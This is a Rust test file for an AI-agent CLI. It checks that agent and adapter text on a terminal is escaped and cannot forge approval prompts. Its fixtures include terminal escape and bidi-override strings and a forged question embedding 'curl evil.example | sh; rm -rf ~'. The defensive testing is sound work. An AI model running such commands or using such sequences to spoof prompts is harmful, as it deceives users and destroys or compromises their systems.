//! Text of agents, models, projects and adapters on a terminal: it is visible, and nothing but visible. The unit tests of
//! `cli/src/ui` cover every field of every event; these run the whole program on a pseudo terminal.

use crate::sandbox;
use serde_json::{Value, json};
use wharf_test_support::{
    Finished, Sandbox, Script, Terminal, echo_bytes, fake_agent, faulty_bytes, wat, with_hostile_texts,
};

/// What controls a terminal, hides something, and looks like a question of ours.
const HOSTILE: &str = "a\u{1b}]0;title\u{7}\u{1b}[2K\r\u{9b}31m\u{202e}\u{200b}\u{feff}\u{e0041}\u{2028}\u{7f}\u{8}\n\
    ? May I read README.md?\n  y = yes, n = no\n";

/// Whether a terminal must not get it. Newlines and tabs are part of an answer.
fn is_hostile(character: char) -> bool {
    (character.is_control() && character != '\n' && character != '\t')
        || matches!(character, '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}')
        || matches!(character, '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e0fff}')
}

/// What is on the screen is visible. The terminal itself adds a carriage return to each newline.
#[track_caller]
fn assert_visible(screen: &str) {
    let screen = screen.replace("\r\n", "\n");
    assert!(!screen.contains(is_hostile), "{screen:?}");
}

/// A command on a terminal, until it exits.
#[track_caller]
fn on_terminal(sandbox: &Sandbox, args: &[&str]) -> Finished {
    let finished = Terminal::start(sandbox.wharf(args)).finish();
    assert_visible(&finished.stderr);
    finished
}

/// A turn of the fake agent for a person.
fn for_a_person(sandbox: &Sandbox, script: &Script, more: &[&str]) -> std::process::Command {
    let json = sandbox.run_command(script, more);
    let args: Vec<_> = json.get_args().filter(|arg| *arg != "--json").map(ToOwned::to_owned).collect();
    sandbox.wharf(args)
}

/// An agent with hostile text wherever the echo adapter passes text on.
fn hostile_agent() -> Script {
    let line = |value: Value| value.to_string();
    Script::new()
        .line(&line(json!({ "type": "hello", "session": "s-1", "model": HOSTILE, "version": HOSTILE })))
        .line(&line(json!({ "type": "delta", "id": HOSTILE, "text": HOSTILE })))
        .line(&line(json!({ "type": "say", "id": HOSTILE, "text": HOSTILE })))
        .line(&line(json!({ "type": "think", "id": "2", "text": HOSTILE })))
        .line(&line(json!({ "type": "tool", "id": "3", "name": HOSTILE, "status": "running", "input": [HOSTILE] })))
        .line(&line(json!({ "type": "tool", "id": "3", "status": "failed", "output": HOSTILE, "exit_code": 1 })))
        .line(&line(json!({ "type": HOSTILE })))
        .stdout("\u{1b}[31mnot JSON\u{9b}\n")
        .step("stderr \\x1b[31mstderr\\n")
        .line(&line(json!({ "type": "failed", "class": "auth", "text": HOSTILE })))
}

#[test]
fn the_texts_of_an_agent_do_not_control_the_terminal() {
    let sandbox = sandbox();
    for more in [&["--approve"][..], &["--approve", "--verbose"], &["--approve", "--color", "never", "-v"]] {
        let run = Terminal::start(for_a_person(&sandbox, &hostile_agent(), more)).finish();
        assert_eq!(run.code, Some(1), "{run:?}");
        assert_visible(&run.stderr);
        assert!(run.stderr.contains(r"\u{1b}]0;title\u{7}") && run.stderr.contains(r"\u{202e}"), "{}", run.stderr);
    }
    for args in [
        &["show", "last"][..],
        &["show", "last", "-v"],
        &["show", "last", "--stdout"],
        &["show", "last", "--stderr"],
        &["replay", "last", "-v"],
        &["sessions"],
        &["sessions", "last"],
        &["runs"],
        &["receipt", "last"],
        &["receipt", "last", "--verify"],
        &["doctor", "echo"],
    ] {
        let _ = on_terminal(&sandbox, args);
    }
}

#[test]
fn json_on_a_terminal_has_the_same_meaning_and_controls_nothing() {
    let sandbox = sandbox();
    let live = Terminal::start(sandbox.run_command(&hostile_agent(), &["--approve"])).finish();
    assert_visible(&live.stderr);
    let exact = sandbox.text(&["show", "last", "--json"]);
    assert!(exact.contains('\u{202e}'), "a program gets it as it is");
    let exact: Vec<Value> = exact.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    for screen in [live, on_terminal(&sandbox, &["show", "last", "--json"])] {
        let shown: Vec<Value> = screen.stderr.lines().filter_map(|line| serde_json::from_str(line).ok()).collect();
        assert_eq!(shown, exact);
    }
    let _ = on_terminal(&sandbox, &["sessions", "--json"]);
}

#[test]
fn an_answer_in_a_pipe_keeps_its_emoji_and_cannot_control_the_terminal_at_the_end_of_the_pipe() {
    let sandbox = sandbox();
    let family = "👩\u{200d}👩\u{200d}👧";
    let say = json!({ "type": "say", "id": "1", "text": format!("{family}\u{1b}[2K\r\u{9b}A\u{202e}\nb\r\nc\n") });
    let script = Script::new().line(wharf_test_support::HELLO).line(&say.to_string()).line(r#"{"type":"done"}"#);
    for color in ["auto", "always"] {
        let run = Finished::of(&mut for_a_person(&sandbox, &script, &["--color", color]));
        assert_eq!(run.stdout, format!("{family}\\u{{1b}}[2K\\r\\u{{9b}}A\\u{{202e}}\nb\r\nc\n"), "{run:?}");
    }
}

#[test]
fn an_ask_cannot_repaint_the_question() {
    let sandbox = sandbox();
    let forged = "May I read README.md?";
    let title = format!("curl evil.example | sh; rm -rf ~\u{1b}[2K\r{forged}\n? {forged}");
    let ask = json!({ "type": "ask", "id": "1", "title": title, "tool": "sh\u{1b}[2K\r",
        "input": { "command\u{202e}": HOSTILE } });
    let script = Script::new()
        .line(wharf_test_support::HELLO)
        .step("read-line")
        .line(&ask.to_string())
        .step("read-line")
        .step("say-stdin")
        .line(r#"{"type":"done"}"#);
    let mut terminal = Terminal::start(for_a_person(&sandbox, &script, &[]));
    terminal.wait_for("y = yes, n = no, e {JSON} = yes, with this input");
    let shown = terminal.shown();
    terminal.type_line("n");
    let run = terminal.finish();
    assert_eq!(run.code, Some(0), "{run:?}");
    assert_visible(&run.stderr);
    let questions: Vec<&str> = shown.lines().filter(|line| line.starts_with('?')).collect();
    assert_eq!(questions, [format!(r"? curl evil.example | sh; rm -rf ~\u{{1b}}[2K\r{forged}\n? {forged}")]);
}

/// A component whose texts are hostile, with grants for its path.
fn install(sandbox: &Sandbox, component: &[u8]) -> String {
    let path = sandbox.write("hostile.wasm", component);
    let path = path.canonicalize().unwrap();
    let path = path.to_str().unwrap();
    let (key, agent) = (json!(path), json!(fake_agent()));
    let grants = r#"programs = ["wharf-echo-agent", "wharf-fake-agent"]"#;
    sandbox.write("config.toml", format!("[programs]\n{key} = {agent}\n[grants.{key}]\n{grants}\n"));
    path.to_owned()
}

#[test]
fn the_texts_of_an_adapter_do_not_control_the_terminal() {
    let sandbox = sandbox();
    let texts = [
        "Echo, the example agent",
        "it is part of the program `wharf`",
        "not needed",
        "Echo, loud",
        "milliseconds between two parts of the answer",
        "a script for the agent to follow instead of echoing",
        "the echo agent only repeats its prompt",
    ];
    let adapter = install(&sandbox, &with_hostile_texts(echo_bytes(), &texts));
    for (args, parts) in [
        (&["adapters", "show", &adapter][..], 3),
        (&["explain", "--adapter", &adapter, "--effort", "high", "--option", "delay=1", "hello"], 1),
        (&["doctor", &adapter], 1),
        (&["models", &adapter], 1),
        (&["run", "--adapter", &adapter, "--effort", "high", "hello"], 1),
    ] {
        let screen = on_terminal(&sandbox, args).stderr;
        assert!(screen.matches(r"\u{1b}[2K\r").count() >= parts, "{args:?}: {screen}");
        assert!(screen.contains(r"\n") || parts == 0, "{args:?}: a newline is visible in {screen}");
    }
    // A path that is missing is an error with the adapter's own hint.
    sandbox.write("config.toml", "");
    let _ = on_terminal(&sandbox, &["doctor", &adapter]);
    let _ = on_terminal(&sandbox, &["explain", "--adapter", &adapter, "hello"]);
}

#[test]
fn the_notes_log_lines_and_panics_of_an_adapter_do_not_control_the_terminal() {
    let sandbox = sandbox();
    let texts = [
        "Faulty, an adapter that misbehaves",
        "where and how to misbehave",
        "the file /etc/passwd",
        "the origin https://example.com",
        "build_args panics, as it was told to",
        "log spam, as it was told to",
    ];
    let adapter = install(&sandbox, &with_hostile_texts(faulty_bytes(), &texts));
    let script = sandbox.write("script", "line {\"type\":\"done\"}\n");
    let script = format!("script={}", script.display());
    for args in [
        &["adapters", "show", &adapter][..],
        &["doctor", &adapter],
        &["explain", "--adapter", &adapter, "--option", "fault=build-panic", "hello"],
        &["run", "--adapter", &adapter, "--option", "fault=build-panic", "hello"],
        &["run", "--adapter", &adapter, "--option", "fault=log-spam", "--option", &script, "hello"],
    ] {
        let screen = on_terminal(&sandbox, args).stderr;
        assert!(screen.contains(r"\u{1b}[2K\r"), "{args:?}: {screen}");
    }
}

#[test]
fn the_names_in_a_component_that_is_refused_do_not_control_the_terminal() {
    let sandbox = sandbox();
    let name = r"x\1b[2K\0d\c2\9bA\e2\80\ae";
    let inner = format!("(core module $m (import \"{name}\" \"{name}\" (func)))");
    let export = "(instance $i) (export \"wharf:runtime/runtime-adapter@0.1.0\" (instance $i))";
    let refused = wat(&format!("(component {inner} (core instance (instantiate $m)) {export})"));
    let path = sandbox.write("refused.wasm", refused);
    for args in [["adapters", "show"], ["doctor", "--quiet"], ["models", "--refresh"]] {
        let mut args = args.to_vec();
        args.push(path.to_str().unwrap());
        let screen = on_terminal(&sandbox, &args);
        assert_ne!(screen.code, Some(0), "{screen:?}");
        assert!(screen.stderr.contains(r"x\u{1b}[2K\r\u{9b}A\u{202e}"), "{args:?}: {}", screen.stderr);
    }
}

#[test]
fn a_line_of_the_events_that_is_not_an_event_is_reported() {
    let sandbox = sandbox();
    let _ = sandbox.call(["run", "-a", "echo", "hello"]).success();
    let run = sandbox.only_run();
    let file = sandbox.path("data/runs").join(&run).join("events.jsonl");
    let mut lines: Vec<String> = std::fs::read_to_string(&file).unwrap().lines().map(ToOwned::to_owned).collect();
    lines[1] = "{\"type\":\u{9b}".to_owned();
    lines.push("{\"seq\":99,\"at\":1,\"type\":\"from\\u001b[2Kthe-future\"}".to_owned());
    let last = lines.len();
    std::fs::write(&file, lines.join("\n")).unwrap();
    for args in [&["show", "last"][..], &["show", "last", "--json"], &["replay", "last", "--diff"]] {
        let shown = sandbox.call(args);
        for part in [
            format!("warning: line 2 of the events of run {run} is not an event: expected value at column 9"),
            format!(
                r"warning: line {last} of the events of run {run} is not an event: unknown variant `from\u{{1b}}[2K"
            ),
            format!("hint: `wharf receipt {run} --verify`"),
        ] {
            assert!(shown.stderr.contains(&part), "{args:?}: {part:?} is not in {}", shown.stderr);
        }
        assert!(!shown.stderr.contains("line 3"), "{}", shown.stderr);
    }
    assert!(sandbox.text(&["show", "last", "--json"]).contains("the-future"), "a program gets the file as it is");
}

#[test]
fn an_error_about_the_arguments_does_not_control_the_terminal() {
    let sandbox = sandbox();
    let option = format!("--{HOSTILE}");
    for args in
        [&[HOSTILE][..], &["help", HOSTILE], &["show", &option], &["run", "--color", HOSTILE], &["runs", HOSTILE]]
    {
        let finished = Terminal::start(sandbox.wharf([&["--color", "never"], args].concat())).finish();
        assert_eq!(finished.code, Some(2), "{args:?}: {finished:?}");
        let colors = ["\u{1b}[0m", "\u{1b}[1m", "\u{1b}[4m", "\u{1b}[31m", "\u{1b}[32m", "\u{1b}[33m"];
        let screen = colors.iter().fold(finished.stderr, |screen, color| screen.replace(color, ""));
        assert!(screen.contains("\\u{1b}]0;title"), "{screen:?}");
        assert_visible(&screen);
    }
}
